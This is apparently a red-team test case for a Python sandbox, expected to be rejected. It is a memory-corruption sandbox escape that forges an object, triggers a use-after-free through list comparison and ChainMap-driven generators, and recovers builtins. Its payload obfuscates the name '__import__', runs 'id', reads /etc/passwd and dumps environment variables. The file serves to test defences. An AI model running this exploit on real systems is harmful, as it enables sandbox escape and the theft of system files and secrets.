# expect: reject memory
# line: 43
# why: round 97 (red team): the same with ChainMap(wipe()), a generator whose body runs when ChainMap's __len__ iterates it
import collections

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def wipe():
    vl.clear()
    yield 1


def fill():
    KEEP.append(bytearray(FAKE))
    yield 1


CA = collections.ChainMap(wipe())
CB = collections.ChainMap(fill())


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = len(CA)
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        n = len(CB)
        return o


vl.append(V())
w = W()
got = vl < [w]
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
